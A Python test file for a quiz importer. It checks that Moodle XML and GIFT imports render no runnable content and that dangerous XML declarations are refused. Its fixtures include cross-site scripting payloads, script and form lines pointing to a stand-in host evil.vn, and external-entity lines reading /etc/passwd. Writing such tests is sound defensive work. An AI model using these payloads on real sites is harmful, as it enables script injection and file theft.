"""Nothing in an imported text runs in a page, whatever its form: only the tags and attributes we allow remain."""

from html.parser import HTMLParser
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.core import rich_text
from lms.quizzes import exchange
from tests.quizzes.exchange.entries import SLOW

TAGS = {
    "a", "br", "code", "em", "img", "strong", "sub", "sup", "blockquote", "div", "hr", "li", "ol", "p", "pre", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "class", "tabindex", "src", "alt", "loading", "start"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.vn/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4=' onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.vn><input name=q></form>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(x)' onclick=alert(1)>a</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)>",
    "<<script>script>alert(1)</script>",
    "<base href=//evil.vn>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "```\n<script>alert(1)</script>\n```",
    "`<script>`",
]
FORMS = ["html", "markdown", "plain_text", "moodle_auto_format"]


class Judge(HTMLParser):
    """Fails on what may not be in a page."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag."""
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES
            if name in {"href", "src"}:
                scheme, colon, _rest = (value or "").partition(":")
                assert not colon or "/" in scheme or scheme.lower() in {"http", "https", "mailto"}


def judge(text: str) -> None:
    """The page of a text holds nothing that runs."""
    for render in (rich_text.render, rich_text.render_inline):
        judged = Judge()
        judged.feed(str(render(text, lambda _digest: "/figures/x")))
        judged.close()


def texts(content: bytes, form: str) -> list[str]:
    """Every Markdown text that a file brings."""
    return [
        text
        for entry in exchange.read("a", content, form).entries
        for both in (entry.words.stem, entry.words.feedback, *entry.words.content.pieces())
        for text in (both.vi, both.en)
    ]


@pytest.mark.parametrize("form", FORMS)
@settings(SLOW, max_examples=60)
@given(pieces=st.lists(st.sampled_from(PAYLOADS) | st.text("<>\"'/=& ab[]()*`\n", max_size=8), min_size=1, max_size=4))
def test_nothing_of_moodle_xml_runs(form: str, pieces: list[str]) -> None:
    text = escape("câu " + "".join(pieces))
    answers = "".join(
        f'<answer fraction="{share}" format="{form}"><text>{first} {text}</text></answer>'
        for share, first in ((100, "một"), (0, "hai"))
    )
    content = (
        f'<quiz><question type="multichoice"><questiontext format="{form}"><text>{text}</text></questiontext>'
        f'<generalfeedback format="{form}"><text>{text}</text></generalfeedback>{answers}</question></quiz>'
    )
    for read in texts(content.encode(), "moodle-xml"):
        judge(read)


@pytest.mark.parametrize("form", ["html", "markdown", "plain", "moodle"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_gift_runs(form: str, payload: str) -> None:
    safe = "".join(f"\\{c}" if c in "~=#{}:\\" else c for c in payload.replace("\n", "\\n"))
    content = f"[{form}]câu {safe}{{=đúng {safe} ~sai####{safe}}}"
    for text in texts(content.encode(), "gift"):
        judge(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_around_a_payload_stay(payload: str) -> None:
    content = f'<quiz><question type="truefalse"><questiontext format="html"><text>{escape(f"Trước {payload}")}</text>'
    content += '</questiontext><answer fraction="100"><text>true</text></answer></question></quiz>'
    reading = exchange.read("a", content.encode(), "moodle-xml")
    assert [text.stem.vi.split()[0] for text in (entry.words for entry in reading.entries)] == ["Trước"] or {
        one.code for one in reading.refused
    } == {"figure"}


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE quiz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE quiz SYSTEM "http://evil.vn/x.dtd">',
    ],
)
def test_document_types_and_entities_are_refused(head: str) -> None:
    broken = exchange.read("a.xml", f"<?xml version='1.0'?>{head}<quiz>&x;</quiz>".encode(), "moodle-xml").unreadable
    assert broken is not None
    assert broken.code == "xml-forbidden"


def test_deep_and_large_files_are_refused() -> None:
    deep = exchange.read("a.xml", b"<quiz>" + b"<a>" * 100, "moodle-xml").unreadable
    assert deep is not None
    assert deep.code == "xml-depth"
    large = exchange.read("a.xml", b"<quiz>" + b" " * 20_000_001, "moodle-xml").unreadable
    assert large is not None
    assert large.code == "too-large"
